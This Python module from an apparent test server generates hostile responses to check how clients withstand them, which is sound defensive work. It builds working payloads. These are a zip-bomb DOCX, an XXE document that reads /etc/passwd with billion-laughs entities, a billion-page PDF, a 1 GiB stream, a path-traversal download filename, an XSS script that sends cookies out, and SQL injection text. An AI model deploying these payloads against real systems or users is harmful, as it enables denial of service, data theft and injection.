"""Hostile content: files and pages made to hurt whoever reads them (issue 8).  `hostile:payload=NAME` replaces the
body of every reply in its scope (put it on an attachment or a detail page):

| payload     | what is served                                                                                      |
|-------------|-----------------------------------------------------------------------------------------------------|
| `zip-bomb`  | a DOCX whose `word/document.xml` inflates to 1 GiB of zeros (about 1 MB on the wire)                 |
| `xxe`       | a DOCX whose `word/document.xml` declares external and billion-laughs entities                      |
| `pdf-pages` | a 1 kB PDF whose page tree claims 10⁹ pages (every node lists the same child ten times)             |
| `huge`      | 1 GiB of bytes, streamed (`declared=1`: with its Content-Length; `0`: none, ended by closing)        |
| `traversal` | the real bytes under `Content-Disposition` naming `../../../../tmp/nianbao-traversal-canary` (plain |
|             | and RFC 5987 forms)                                                                                 |
| `script`    | the real HTML page with `<script>`, an `onerror` image and a `javascript:` link in title and body   |
| `sql`       | the real HTML page with SQL metacharacters after each `marker` (the start of the agency's name)      |

Payloads are made on first use and kept in memory (the zip bomb takes about a second to compress).
"""

from __future__ import annotations

import functools
import io
import random
import zipfile
from typing import Any, BinaryIO

from replica.modes.base import Mode, Request, register
from replica.modes.traps import html_of, set_html
from replica.wire import Reply

CANARY = "nianbao-traversal-canary"
SQL_TEXT = "'); DROP TABLE reports; -- \" OR 1=1 %_\\"
SCRIPT_TEXT = "<script>document.title='pwned';fetch('/-/x?c='+document.cookie)</script>"
HUGE_BYTES = 1 << 30
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

_CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats'
                  b'.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlfor'
                  b'mats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override'
                  b' PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordpro'
                  b'cessingml.document.main+xml"/></Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats'
         b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDoc'
         b'ument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx(document_xml: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _CONTENT_TYPES)
        package.writestr("_rels/.rels", _RELS)
        package.writestr("word/document.xml", document_xml)
    return out.getvalue()


def _bomb_docx(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _CONTENT_TYPES)
        package.writestr("_rels/.rels", _RELS)
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with package.open(info, "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0"?><w:document ' + _W + b"><w:body><w:p><w:r><w:t>")
            block = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                member.write(block)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return out.getvalue()


@functools.cache
def zip_bomb() -> bytes:
    return _bomb_docx(1 << 30)


@functools.cache
def xxe_docx() -> bytes:
    document = (b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
                b'<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
                b"<w:document " + _W + b"><w:body><w:p><w:r><w:t>2024\xe5\xb9\xb4&xxe;&d;</w:t></w:r></w:p>"
                b"</w:body></w:document>")
    return _docx(document)


@functools.cache
def billion_page_pdf() -> bytes:
    """A page tree nine levels deep, each node listing the next ten times: /Count 10⁹ with a dozen objects."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    depth = 9
    for level in range(depth):  # objects 2 .. 2+depth-1: intermediate nodes
        number, child = 2 + level, 3 + level
        parent = f" /Parent {number - 1} 0 R" if level else ""
        kids = " ".join([f"{child} 0 R"] * 10)
        objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {10 ** (depth - level)}{parent} >>".encode())
    objects.append(f"<< /Type /Page /Parent {1 + depth} 0 R /MediaBox [0 0 595 842] >>".encode())
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


@register
class Hostile(Mode):
    name = "hostile"
    params = {"payload": "zip-bomb", "declared": 1, "marker": "尧都区"}
    _PREPARED = {"zip-bomb": zip_bomb, "xxe": xxe_docx, "pdf-pages": billion_page_pdf}

    def __init__(self, params: dict[str, Any], rng: random.Random, secret: bytes) -> None:
        super().__init__(params, rng, secret)
        made = self._PREPARED.get(self.settings["payload"])
        if made is not None:
            made()  # made now, when the rule is set, not while a client waits for its first reply

    def after(self, request: Request, reply: Reply) -> Reply:
        if reply.status != 200 or not reply.send_body:
            return reply
        payload = self.settings["payload"]
        changed = getattr(self, f"_{payload.replace('-', '_')}", None)
        if changed is None:
            return reply
        reply.fault = f"{self.name}:{payload}"
        return changed(reply)

    @staticmethod
    def _file(reply: Reply, body: bytes, content_type: str) -> Reply:
        reply.body = body
        reply.headers = [(k, v) for k, v in reply.headers if k.lower() not in ("etag", "last-modified",
                                                                               "content-encoding")]
        reply.set_header("Content-Type", content_type)
        reply.set_header("Content-Length", str(len(body)))
        return reply

    def _zip_bomb(self, reply: Reply) -> Reply:
        return self._file(reply, zip_bomb(), DOCX_TYPE)

    def _xxe(self, reply: Reply) -> Reply:
        return self._file(reply, xxe_docx(), DOCX_TYPE)

    def _pdf_pages(self, reply: Reply) -> Reply:
        return self._file(reply, billion_page_pdf(), "application/pdf")

    def _huge(self, reply: Reply) -> Reply:
        declared = bool(self.settings["declared"])
        self._file(reply, b"", "application/pdf")
        if not declared:
            reply.headers = [(k, v) for k, v in reply.headers if k.lower() != "content-length"]
            reply.set_header("Connection", "close")
        else:
            reply.set_header("Content-Length", str(HUGE_BYTES))

        def stream(wfile: BinaryIO, original: Reply) -> None:
            block = b"%PDF-1.4\n" + b"0" * ((1 << 20) - 9)
            wfile.write(original.head_bytes())
            for _ in range(HUGE_BYTES >> 20):  # stops with BrokenPipe when the client gives up
                wfile.write(block)
                block = b"0" * (1 << 20)
            wfile.flush()
            raise ConnectionResetError("end of the huge body")

        reply.writer = stream
        return reply

    @staticmethod
    def _traversal(reply: Reply) -> Reply:
        target = f"../../../../tmp/{CANARY}"
        encoded = "..%2F..%2F..%2F..%2Ftmp%2F" + CANARY
        reply.set_header("Content-Disposition", f"attachment; filename=\"{target}\"; filename*=UTF-8''{encoded}")
        return reply

    @staticmethod
    def _script(reply: Reply) -> Reply:
        page = html_of(reply)
        if page is None:
            return reply
        text, charset = page
        evil = SCRIPT_TEXT + '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">附件</a>'
        text = text.replace("<title>", "<title>" + SCRIPT_TEXT, 1).replace("</body>", evil + "</body>", 1)
        return set_html(reply, text, charset)

    def _sql(self, reply: Reply) -> Reply:
        page = html_of(reply)
        if page is None:
            return reply
        text, charset = page
        marker = self.settings["marker"]  # the text the agency's name begins with (title, heading, body)
        return set_html(reply, text.replace(marker, marker + SQL_TEXT), charset)
